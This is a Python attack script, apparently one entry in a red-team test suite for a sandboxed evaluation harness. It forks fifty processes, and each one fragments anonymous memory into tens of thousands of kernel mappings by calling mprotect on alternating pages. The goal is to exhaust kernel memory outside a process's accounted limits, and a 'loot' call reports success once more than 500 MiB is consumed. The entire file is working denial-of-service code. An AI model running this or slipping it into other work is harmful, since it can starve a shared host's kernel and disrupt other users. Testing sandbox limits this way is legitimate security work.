"""Cuts untouched memory into as many mappings as a process may have, in fifty processes; each mapping is a note of the kernel's."""

import ctypes
import mmap
import os
import time

from aim import HOME, MIB, call, children_do, loot

from run import ZEWDPCBaseRun

CHILDREN, EACH = 50, 60_000
kept = []


def cut(number):
    area = mmap.mmap(-1, 2 * EACH * mmap.PAGESIZE, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
    kept.append(area)
    start = ctypes.addressof(ctypes.c_char.from_buffer(area))
    for at in range(EACH // 2 - 1):
        call("mprotect", ctypes.c_void_p(start + 2 * at * mmap.PAGESIZE), ctypes.c_size_t(mmap.PAGESIZE), 0)
    with open(f"{HOME}/mapped", "a") as file:
        file.write("x")


class Attack(ZEWDPCBaseRun):
    def purchase_phase(self, unlabelled_dataset):
        children_do(cut, CHILDREN)
        time.sleep(8)
        done = os.path.getsize(f"{HOME}/mapped") if os.path.exists(f"{HOME}/mapped") else 0
        size = done * EACH * 200
        print(done, size // MIB, flush=True)
        if size > 500 * MIB:
            loot(f"{size // MIB} MiB of notes in {done} processes")
